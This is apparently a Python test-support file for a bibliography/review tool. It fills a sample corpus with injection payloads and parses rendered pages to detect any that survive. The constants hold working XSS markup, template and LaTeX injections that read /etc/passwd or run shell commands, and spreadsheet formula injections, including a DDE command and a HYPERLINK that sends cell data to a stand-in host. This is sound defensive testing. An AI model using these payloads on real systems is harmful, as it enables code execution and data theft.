"""A corpus in which every text is an attack, and what a page must not contain for it to have failed."""

from __future__ import annotations

import csv
import io
import shutil
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path

import yaml
from conftest import EXAMPLES, TINY

from review import bibliography
from review.bibliography import Reference
from review.files import rows_to_csv

HOSTILE = EXAMPLES / "hostile"
CANARY = "pwned"
"""The name that every attack sets on ``window``, and every element of theirs is marked with."""

MARKUP = (
    f"<script>window.{CANARY}=1</script>",
    f'"><img src=x onerror="window.{CANARY}=1">',
    f"</script><script>window.{CANARY}=1</script>",
    f"</style></title></textarea><svg onload=window.{CANARY}=1>",
    f'<a href="javascript:window.{CANARY}=1" class={CANARY}>{CANARY}</a>',
    f"'><iframe srcdoc='<script>parent.{CANARY}=1</script>'></iframe>",
    f"--><meta http-equiv=refresh content='0;url=https://{CANARY}.example/'>",
    f"]]><link rel=stylesheet href=https://{CANARY}.example/a.css>",
    f"{{{{ ''.__class__ }}}}{{% include '/etc/passwd' %}}<b class={CANARY}>b</b>",
    f"`<img src=https://{CANARY}.example/a.png>` ![x](https://{CANARY}.example/b.png) [y](javascript:{CANARY}())",
)
TEX = (
    r"\input{/etc/passwd}",
    r"\immediate\write18{touch pwned}",
    r"}\write18{touch pwned}{",
    r"\end{table}\input|'touch pwned'",
    "50% off %\n\\input{x}",
    r"^^5cinput{/etc/passwd}",
    r"\catcode`\%=12 $\def\x{1}$ # & _ ~",
)
FORMULAS = (
    '=HYPERLINK("https://pwned.example/?"&A1,"x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
)


def words(start: str = "") -> Iterator[str]:
    """Return one attack after the other, each with a number, so that it is seen which text it was."""
    every = [*MARKUP, *(text.replace("\n", " ") for text in TEX)]
    number = 0
    while True:
        yield f"{start}{every[number % len(every)]} t{number}"
        number += 1


def corpus(folder: Path, start: str = "") -> Path:
    """Write a copy of the tiny corpus in which every text that is free is an attack.

    Parameters
    ----------
    folder : Path
    start : str
        What every text begins with: one of :data:`FORMULAS`, for example.
    """
    attack = words(start)
    shutil.copytree(TINY, folder)
    codes = {name: next(attack).replace(";", ",") for name in ("survey", "pain", "at home", "hospital")}
    _book(folder / "codebook.yaml", attack, codes)
    _references(folder / "bibliography.bib", attack)
    free = {
        "coding.csv": ("evidence", "source"),
        "screening.csv": ("note", "seen", "source", "title"),
        "published.csv": ("source", "note"),
        "flow.csv": ("note",),
    }
    for name, columns in free.items():
        rows = list(csv.DictReader(io.StringIO((folder / name).read_text("utf-8"), newline="")))
        for row in rows:
            row.update({column: next(attack) for column in columns})
            for column in {"value", "category"} & set(row):
                negated = "not " if row[column].startswith("not ") else ""
                row[column] = negated + codes.get(row[column].removeprefix("not "), row[column].removeprefix("not "))
        (folder / name).write_text(rows_to_csv(rows[0], (row.values() for row in rows)), "utf-8", newline="")
    return folder


def _book(path: Path, attack: Iterator[str], codes: dict[str, str]) -> None:
    book = yaml.safe_load(path.read_text("utf-8"))
    book["review"] |= {"title": next(attack), "citation": next(attack), "coders": next(attack)}
    for dimension in book["dimensions"].values():
        dimension |= {"title": next(attack), "definition": next(attack)}
        dimension["categories"] = {codes.get(code, code): lines for code, lines in dimension["categories"].items()}
        for category in dimension["categories"].values():
            category.update({part: next(attack) for part in category})
    path.write_text(yaml.safe_dump(book, sort_keys=False, allow_unicode=True, width=10_000), "utf-8")


def _references(path: Path, attack: Iterator[str]) -> None:
    made = []
    for one in bibliography.read(path):
        free = {"title", "journal", "booktitle", "howpublished"} & set(one.fields)
        fields = dict(one.fields) | {name: next(attack) for name in sorted(free)}
        if "author" in fields:
            fields["author"] = f"{next(attack)}, A and {next(attack)}, B"
        fields |= {"note": next(attack), "url": f'https://pwned.example/"onmouseover="window.{CANARY}=1'}
        if "doi" in fields:
            fields["doi"] = f'10.1000/x"onmouseover="window.{CANARY}=1'
        made.append(Reference(one.key, one.kind, fields, one.line))
    path.write_text(bibliography.write(made), "utf-8")


class Elements(HTMLParser):
    """Everything in a page that an attack could have brought, and the words of the page."""

    def __init__(self, text: str, scripts: bool = False) -> None:
        super().__init__(convert_charrefs=True)
        self.scripts, self.found, self.words, self.tags = scripts, [], "", set()
        self._data = False
        self.feed(text)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        given = {name: value or "" for name, value in attrs}
        kind = given.get("type", "")
        self._data = tag in ("script", "style")
        if tag in ("iframe", "object", "embed", "base", "frame") or (
            tag == "script" and not self.scripts and kind != "application/json" and "static/" not in given.get("src", "")
        ):
            self.found.append((tag, given))
        if given.get("class") == CANARY or given.get("http-equiv", "").lower() == "refresh":
            self.found.append((tag, given))
        for name, value in given.items():
            address = "".join(value.split()).lower()
            if name.startswith("on") or name == "srcdoc" or address.startswith(("javascript:", "vbscript:", "data:text")):
                self.found.append((tag, name, value))
            if name in ("src", "srcset", "background", "poster") and address.startswith(("http:", "https:", "//")):
                self.found.append((tag, name, value))
            if tag == "link" and name == "href" and address.startswith(("http:", "https:", "//")):
                self.found.append((tag, name, value))

    def handle_endtag(self, tag):
        self._data = False

    def handle_data(self, data):
        if not self._data:
            self.words += data
